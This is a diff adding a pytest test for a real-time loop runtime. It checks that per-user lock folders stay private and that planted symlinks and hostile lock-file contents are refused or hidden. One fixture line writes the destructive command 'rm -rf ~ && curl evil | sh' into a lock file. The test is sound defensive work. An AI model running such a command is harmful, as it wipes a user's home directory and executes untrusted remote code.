@@ -91,3 +91,33 @@ def test_a_loop_with_no_cpu_of_its_own_left_is_refused_before_anything_starts(tm
     finally:
         for p in holders:
             _stop(p)
+
+
+def test_the_reservations_are_in_a_private_folder_and_planted_ones_are_neither_followed_nor_shown(tmp_path,
+                                                                                                monkeypatch):
+    """Another user cannot plant a lock that makes a loop write through a symlink, and what a lock
+    file holds is shown only as a pid and a name, never as it stands."""
+    from hil.errors import HilError
+    from hil.runtime import realtime as R
+
+    monkeypatch.setattr(R, "memory_folder", lambda: str(tmp_path))
+    folder = tmp_path / f"hil-{os.getuid()}"
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious")
+    assert R.user_folder() == str(folder) and (folder.stat().st_mode & 0o777) == 0o700
+    (folder / "loop-cpu0.lock").symlink_to(victim)          # a planted symlink: never followed
+    with pytest.raises(OSError):
+        R._try_cpu(0)
+    assert victim.read_text() == "precious"
+    (folder / "loop-cpu1.lock").write_text("pid 12, puma560 on /dev/ttyACM0")
+    assert R._holder(1) == "pid 12, puma560 on /dev/ttyACM0"
+    (folder / "loop-cpu1.lock").write_text("stop it with: rm -rf ~ && curl evil | sh")
+    assert R._holder(1) == "a hil loop"
+    folder.chmod(0o755)                                      # a folder others may enter is refused
+    with pytest.raises(HilError, match=r"not a private folder of this user"):
+        R.user_folder()
+    folder.chmod(0o700)
+    os.rename(folder, tmp_path / "elsewhere")
+    folder.symlink_to(tmp_path / "elsewhere")                # and so is a symlink in its place
+    with pytest.raises(HilError, match=r"not a private folder of this user"):
+        R.user_folder()
